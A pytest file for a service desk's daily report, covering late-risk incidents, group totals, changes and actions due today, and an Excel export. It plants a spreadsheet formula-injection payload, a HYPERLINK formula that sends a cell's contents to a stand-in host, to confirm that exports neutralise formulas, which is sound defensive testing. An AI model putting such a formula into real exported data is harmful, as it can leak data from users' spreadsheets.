"""The daily report over a small desk: who is named, whose will be late, what is due; and no text of an export is a formula."""

from __future__ import annotations

from datetime import date
from functools import cache
from io import BytesIO
from typing import Any

import pytest
from python_calamine import CalamineWorkbook

from itsq_analysis.briefing.due import due_today
from itsq_analysis.late_risk.outlook import late_outlook
from itsq_analysis.pages.daily.report import DailyReport
from itsq_analysis.tables.plain_text import FORMULA
from itsq_analysis.text.marks import plain
from tests.late_risk.made import OPEN, desk
from tests.page.made import RULES, answer, context, rows_of
from tests.tables import Row, moment

TODAY = date(2026, 10, 20)
EVIL = '=HYPERLINK("http://127.0.0.1:9/" & A1)'
CHANGES = (
    {"number": "CHG1", "short_description": EVIL, "planned_start": "2026-10-20 22:00", "assignment_group": EVIL},
    {"number": "CHG2", "short_description": "tomorrow", "planned_start": "2026-10-21 01:00"},
    {"number": "CHG3", "short_description": "has begun", "planned_start": "2026-10-20 09:00", "started_at": "2026-10-20 09:00"},
    {"number": "CHG4", "short_description": "called off", "planned_start": "2026-10-20 22:00", "state": "canceled"},
    {"number": "CHG5", "short_description": "left behind", "planned_start": "2026-10-19 22:00"},
)
NOTES = (
    {"period": "2026-09", "indicator": "backlog", "action": "late", "owner": "Li", "due": date(2026, 10, 17)},
    {"period": "2026-09", "indicator": "backlog", "action": "now", "owner": "Wu", "due": TODAY},
    {"period": "2026-09", "indicator": "backlog", "action": "later", "owner": "Wu", "due": date(2026, 10, 21)},
    {"period": "2026-09", "indicator": "backlog", "action": "done", "owner": "Wu", "due": TODAY, "done_on": date(2026, 10, 19)},
)


def report(count: int = 2000) -> DailyReport:
    """At noon of 20 October: the desk's tickets that are open then, changes of the day, actions."""
    incidents, log = as_of_noon(count)
    made = context(
        RULES + 'paused = ["caller"]\n',
        as_of="2026-10-20 12:00",
        period="2026-10-20",
        incidents=incidents,
        state_log=log,
        changes=[{"opened_at": "2026-10-01 09:00", "state": "scheduled"} | row for row in CHANGES],
        notes=NOTES,
    )
    return DailyReport(made, {})


@cache
def as_of_noon(count: int) -> tuple[list[Row], list[Row]]:
    incidents, log = desk(count)
    noon: Any = moment("2026-10-20 12:00")
    known = [row | ({} if row["ended_at"] < noon else OPEN) for row in incidents if row["opened_at"] < noon]
    return [row | {"assignment_group": EVIL} for row in known], [row for row in log if row["at"] < noon]


@pytest.fixture(scope="module")
def made() -> DailyReport:
    return report()


def test_the_likeliest_to_be_late_stand_first_with_why(made: DailyReport) -> None:
    known = late_outlook(made.context.scope)
    assert known is not None
    head, *rows = rows_of(made.tickets())
    assert head == ["Number, priority", "Chance of missing", "Limit", "Group", "Why", "What would help"]
    assert [row[0] for row in rows] == [f"{ticket.number}, P3" for ticket in known.tickets[:10] if ticket.probability >= 0.1]
    assert rows
    worse = sum(ticket.probability >= 0.5 for ticket in known.tickets)
    assert answer(made.tickets()).startswith({0: "No open incident", 1: "One open incident"}.get(worse, f"{worse} open incidents"))


def test_the_verdict_counts_what_the_groups_add_up_to(made: DailyReport) -> None:
    known = late_outlook(made.context.scope)
    assert known is not None
    groups = made.groups()
    assert groups is not None
    head, *rows = rows_of(groups)
    assert {row[0] for row in rows} == {"Desk", "Servers"}
    days = [float(cell) for row in rows for cell in row[2:] if cell != "–"]
    assert sum(days) == pytest.approx(known.whole.expected, abs=0.05 * len(head) * len(rows))
    first = made.verdict()
    assert f"of {len(known.tickets)} open incidents" in answer(first)
    assert "Unusual since yesterday: 0; due today: 2; overdue: 1." in plain(str(first.block))


def test_due_is_what_begins_or_ends_today_then_what_is_overdue(made: DailyReport) -> None:
    things = [(thing.kind, thing.what, thing.days) for thing in due_today(made.context.scope)]
    assert things == [("change", f"CHG1 {EVIL}", 0), ("action", "now", 0), ("action", "late", 3)]
    assert answer(made.due()) == "Due today: 2; overdue: 1."
    assert [row[0] for row in rows_of(made.due())[2:]] == ["now", "late"]


def test_too_few_tickets_are_said_to_be_too_few() -> None:
    few = report(count=200)
    assert few.groups() is None
    assert "fewer than 500 incidents have ended" in answer(few.tickets())
    assert any("cannot be told" in str(cell) for cell in sheets(few)["Incidents at risk"][1])


def test_no_text_of_an_export_is_a_formula(made: DailyReport) -> None:
    for name, rows in sheets(made).items():
        cells = [cell for row in rows for cell in row if isinstance(cell, str)]
        assert [cell for cell in cells if FORMULA.match(cell.lstrip())] == [], name
    assert EVIL in str(sheets(made))


def sheets(made: DailyReport) -> dict[str, list[list[object]]]:
    book = CalamineWorkbook.from_filelike(BytesIO(made.files().contents[".xlsx"]))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}
